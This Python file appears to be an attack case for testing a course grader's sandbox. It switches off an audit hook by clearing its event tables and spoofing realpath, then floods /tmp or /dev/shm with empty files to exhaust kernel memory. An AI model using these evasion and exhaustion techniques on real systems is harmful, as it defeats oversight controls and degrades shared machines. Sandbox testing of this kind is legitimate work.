"""Attack: 20,000 empty files with long names, which weigh nothing on a disk cap that counts
bytes but cost the kernel about 1.3 KB of memory each (inode and name).

The course caps the child's writes at 8 MB. Empty files have no blocks, so a tmpfs size limit
(bubblewrap) or a byte count (uid level) does not see them, while 20,000 of them hold about 25 MB
of kernel memory (three times the cap), and the time budget allows far more. Each call of norm
goes on from the files earlier calls made, so a loaded machine slows the flood but does not stop
it. At the uid level they go to /dev/shm (RAM), where folders have no blocks either, and the
grader walks every one of them five times a second. Expected when the sandbox holds: file
creation stops near the cap (an inode limit), so norm scores nothing (exactly 6 points), and no
file is left behind.
"""

import os
import posixpath
import sys
import time

import numpy as np


def _unhook():
    """Switch off the child's audit hook from pure Python (it is defence in depth, not a boundary):
    empty its tables of events and make its path check see /dev/null, which it allows."""
    confine = sys.modules.get("confine")
    if confine is None:
        return
    confine._BLOCKED_EVENTS.clear()
    confine._WRITE_EVENTS.clear()
    real = posixpath.realpath

    def realpath(path, *args, **kwargs):
        if sys._getframe(1).f_code.co_name == "inside":
            return "/dev/null"
        return real(path, *args, **kwargs)

    posixpath.realpath = realpath


_unhook()


def add(x, y):
    """Elementwise sum of two arrays of the same shape."""
    return x + y


def scale(x, k=2.0):
    """x times the number k."""
    return x * k


WANTED = 20_000


def _flood(limit_s):
    folder = "/tmp" if os.path.isdir("/sandbox") else f"/dev/shm/flood-{os.getpid()}"
    os.makedirs(folder, exist_ok=True)
    name = os.path.join(folder, f"{os.getpid()}-" + "n" * 200)
    start, count = time.monotonic(), len(os.listdir(folder))
    try:
        while count < WANTED and time.monotonic() - start < limit_s:
            os.close(os.open(f"{name}{count}", os.O_CREAT | os.O_WRONLY, 0o600))
            count += 1
    except OSError:
        pass
    return count


def norm(x):
    """The right norm only if WANTED files could be made."""
    return float(np.sqrt(np.sum(x * x))) if _flood(1.6) >= WANTED else -1.0
